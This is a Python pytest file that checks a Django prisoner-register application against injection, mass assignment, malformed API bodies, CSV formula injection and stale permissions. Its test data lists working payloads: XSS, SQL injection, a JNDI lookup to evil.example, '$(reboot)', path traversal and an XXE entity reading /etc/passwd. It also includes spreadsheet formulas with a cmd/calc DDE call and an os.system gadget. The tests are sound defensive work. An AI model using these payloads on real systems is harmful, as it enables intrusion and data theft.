"""S16, S20, v5.0.0-1.x, 15.3: hostile text comes back letter for letter and never lives; only listed fields go in."""

from __future__ import annotations

import html
import json
import time
from collections.abc import Iterator

import pytest
import time_machine
from django.test import Client

from creo.register.models import Identity, Person
from creo.register.tests import factories as make
from creo.support.accounts.models import RoleGrant, User
from creo.support.accounts.permissions import Permission
from creo.support.accounts.tests.factories import user
from creo.support.api.models import ApiKey, RememberedCall
from creo.support.api.tests.factories import make_key
from creo.territory.models import Facility

pytestmark = pytest.mark.django_db

HOSTILE = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; DROP TABLE register_person; --",
    "' OR '1'='1",
    "1 UNION SELECT password FROM accounts_user",
    "{{ 7*7 }}",
    "{% load static %}{% static 'x' %}",
    "${jndi:ldap://evil.example/x}",
    "$(reboot)`reboot`",
    "../../../../etc/passwd",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "javascript:alert(1)",
    "&lt;b&gt; &amp; ñ á Ü",
    "%s %n %(x)s {0} {x}",
    "\u202eADNIP",
    "Ana\u200b\u200d",
    "𝕬𝖓𝖆 🇵🇪",
    "]]><!--",
    "-- -",
    "\\\\server\\share",
    "O'Higgins-Ñahui d’Angelo",
)  # fmt: skip


@pytest.fixture(autouse=True)
def _frozen() -> Iterator[None]:
    with time_machine.travel("2026-11-23 15:00:00Z", tick=False):
        make.places()
        make.offence()
        yield


def held(number: int = 1) -> str:
    person = make.person(number)
    make.identity(person)
    make.custody(person, Facility.objects.get(code="EP-PIURA"))
    return person.code


def staff(role: str = "registry") -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user(f"persona.{role}", role))
    return client


@pytest.mark.parametrize("text", HOSTILE)
def test_S16_v5_0_0_1_2_1_a_hostile_reason_and_source_come_back_letter_for_letter(text: str) -> None:
    """Free text is kept as typed, shown escaped, and is nothing but text wherever it lands."""
    client = staff("technical_lead")
    said = {"places": "900", "valid_from": "2026-11-23", "source": text, "reason": text}
    answer = client.post("/territorio/penales/EP-PIURA/capacidad/", said)
    assert answer.status_code in (302, 422)
    page = client.get("/territorio/penales/EP-PIURA/") if answer.status_code == 302 else answer
    shown = page.content.decode()
    assert html.escape(text) in shown or text in html.unescape(shown)
    for live in ("<script>alert", "<img src=x", "onerror=alert(1)>"):
        assert live not in shown.replace(html.escape(text), "")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "path",
    [
        "/personas/?q={}",
        "/personas/?establecimiento={}",
        "/personas/?cursor={}",
        "/personas/movimientos/?desde={}",
        "/personas/exportar.csv?q={}",
        "/buscar/?q={}",
        "/bandeja/?topic={}",
        "/calidad/?check={}",
        "/actos/?act={}",
        "/focalizacion/?nivel={}",
    ],
)
def test_S16_searches_and_filters_take_hostile_text_as_text(text: str, path: str) -> None:
    from urllib.parse import quote

    held()
    began = time.process_time()
    answer = staff().get(path.format(quote(text, safe="")))
    assert answer.status_code < 500, (path, text)
    assert time.process_time() - began < 2
    if answer.get("Content-Type", "").startswith("text/html"):
        assert "<script>alert" not in answer.content.decode()
        assert "onerror=alert(1)>" not in html.escape(text) or "onerror=alert(1)>" not in answer.content.decode()
    assert Person.objects.count() == 1


FILTERS = (
    "identity__document_number__startswith=7",
    "user__password__startswith=a",
    "custody__offences__code=CP-173",
    "person__merged_into__isnull=1",
    "id__in=1,2,3",
    "order_by=password",
    "ordering=-identity__birth_date",
    "fields=document_number",
    "_connector=OR",
    "__class__=x",
)


@pytest.mark.parametrize("filter_", FILTERS)
def test_S20_filters_of_the_orm_in_an_address_change_nothing(filter_: str) -> None:
    held()
    client = staff()
    plain = client.get("/personas/").content.decode()
    tried = client.get(f"/personas/?{filter_}").content.decode()
    assert plain.count("P-0000001") > 0
    assert tried.count("/personas/P-0000001/") == plain.count("/personas/P-0000001/")
    key = Client(headers={"Authorization": f"Bearer {make_key()[1]}"})
    assert key.get(f"/api/v1/people?{filter_}").json() == key.get("/api/v1/people").json()


EXTRA = {
    "id": "999",
    "pk": "999",
    "code": "P-7777777",
    "status": "confirmed",
    "is_active": "1",
    "is_superuser": "1",
    "permissions": "manage_access",
    "role": "administrator",
    "user_id": "1",
    "merged_into": "1",
    "valid_to": "2000-01-01",
    "by": "system",
    "today": "2000-01-01",
    "facility": "EP-AREQUIPA",
}


def test_S20_v5_0_0_15_3_3_a_form_takes_only_its_own_fields() -> None:
    code = held()
    grants, users = RoleGrant.objects.count(), User.objects.count()
    client = staff()
    sent = {"given_names": "Rosa", "first_surname": "Quispe", "document_kind": "unknown", "nationality": "PE"}
    answer = client.post(
        f"/personas/{code}/identidad/corregir/", {**EXTRA, **sent, "sex": "female", "reason": "Partida 7"}
    )
    assert answer.status_code == 302
    now = Identity.objects.get(person__code=code, valid_to=None)
    assert (now.status, now.person.code, now.person.merged_into_id) == ("provisional", code, None)
    assert now.valid_from.isoformat() != "2000-01-01"
    assert not Person.objects.filter(code="P-7777777").exists()
    assert RoleGrant.objects.count() == grants + 1
    assert User.objects.count() == users + 1


@pytest.mark.parametrize("field", sorted(EXTRA))
def test_S20_v5_0_0_15_3_3_the_api_refuses_fields_that_it_does_not_know(field: str) -> None:
    key = Client(headers={"Authorization": f"Bearer {make_key()[1]}"})
    body = {
        "facility": "EP-PIURA",
        "admitted_on": "2026-11-20",
        "mandate": "Resolución 4",
        "identity": {"first_surname": "Quispe"},
    }
    place = body["identity"] if field == "facility" else body
    place[field] = EXTRA[field]  # type: ignore[index]
    headers = {"Idempotency-Key": "acto-00001"}
    answer = key.post("/api/v1/people", json.dumps(body), content_type="application/json", headers=headers)
    assert answer.status_code == 422
    assert not Person.objects.exists()


BODIES = (
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b'{"identity": ' + b'"x' * 10,
    b"\xff\xfe\x00",
    b'{"facility": "\\ud800"}',
    b'{"admitted_on": "9999999-01-01"}',
    b'{"facility": 1e999}',
    b"NaN",
    b'{"facility": "EP-PIURA", "facility": "EP-AREQUIPA"}',
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    b'{"__class__": "os.system", "__reduce__": ["id"]}',
    json.dumps({"identity": {"first_surname": "\u0000"}}).encode(),
)


@pytest.mark.parametrize("body", BODIES, ids=range(len(BODIES)))
def test_S16_v5_0_0_1_5_bodies_that_are_no_call_are_refused_in_words(body: bytes) -> None:
    key = Client(headers={"Authorization": f"Bearer {make_key()[1]}"}, raise_request_exception=False)
    began = time.process_time()
    answer = key.post(
        "/api/v1/people", body, content_type="application/json", headers={"Idempotency-Key": "acto-00001"}
    )
    assert 400 <= answer.status_code < 500, answer.content[:300]
    assert answer["Content-Type"] == "application/problem+json"
    assert time.process_time() - began < 2
    assert not Person.objects.exists()
    assert not RememberedCall.objects.exists()


@pytest.mark.parametrize("name", HOSTILE)
def test_S16_a_hostile_name_is_refused_or_comes_back_whole(name: str) -> None:
    key = Client(headers={"Authorization": f"Bearer {make_key()[1]}"}, raise_request_exception=False)
    body = {
        "facility": "EP-PIURA",
        "admitted_on": "2026-11-20",
        "mandate": name[:100],
        "identity": {"first_surname": name[:60], "given_names": "Rosa"},
    }
    headers = {"Idempotency-Key": "acto-00001"}
    answer = key.post("/api/v1/people", json.dumps(body), content_type="application/json", headers=headers)
    assert answer.status_code in (201, 422), answer.content
    if answer.status_code == 201:
        code = answer.json()["person"]
        told = key.get(f"/api/v1/people/{code}").json()["identity"]["first_surname"]
        assert " ".join(told.split()) == " ".join(name[:60].split())
        page = staff().get(f"/personas/{code}/").content.decode()
        assert html.escape(told) in page or told in html.unescape(page)
        assert "<script>alert" not in page
        assert "<img src=x" not in page


def test_S16_formula_in_a_name_is_text_in_the_exported_list() -> None:
    """v5.0.0-1.2.10; workbooks and the other lists are in support/tests/test_tables.py."""
    code = held()
    Identity.objects.filter(person__code=code).update(given_names="=1+1", first_surname="@SUM(A1)")
    client = staff()
    answer = client.get("/personas/exportar.csv")
    if answer.status_code == 302:  # asks first what it is for
        return
    said = (b"".join(answer.streaming_content) if answer.streaming else answer.content).decode("utf-8-sig")
    assert not [
        cell
        for line in said.splitlines()
        for cell in line.replace('"', "").split(";")
        if cell.startswith(("=", "@", "+"))
    ]


def test_v5_0_0_8_3_2_a_withdrawn_right_is_gone_at_the_next_click() -> None:
    client = staff()
    assert client.get("/personas/").status_code == 200
    RoleGrant.objects.update(valid_to="2026-11-23")
    assert client.get("/personas/").status_code == 403


def test_v5_0_0_8_3_2_moved_to_another_prison_in_mid_session_sees_the_new_one_only() -> None:
    code = held()
    mover = user("mudado", "registry", "facility", "EP-PIURA")
    client = Client()
    client.force_login(mover)
    assert client.get(f"/personas/{code}/").status_code == 200
    RoleGrant.objects.filter(user=mover).update(scope_code="EP-TUMBES")
    assert client.get(f"/personas/{code}/").status_code == 404
    typed = {"given_names": "Rosa", "reason": "Oficio 1"}
    assert client.post(f"/personas/{code}/identidad/corregir/", typed).status_code == 404


def test_v5_0_0_8_3_2_a_revoked_key_opens_nothing_at_the_next_call() -> None:
    key_id, text = make_key(Permission.VIEW_PEOPLE)
    client = Client(headers={"Authorization": f"Bearer {text}"})
    assert client.get("/api/v1/people").status_code == 200
    ApiKey.objects.filter(pk=key_id).update(
        revoked_at="2026-11-23T00:00:00Z", revoked_by="Ana", revoked_reason="Se perdió"
    )
    assert client.get("/api/v1/people").status_code == 401
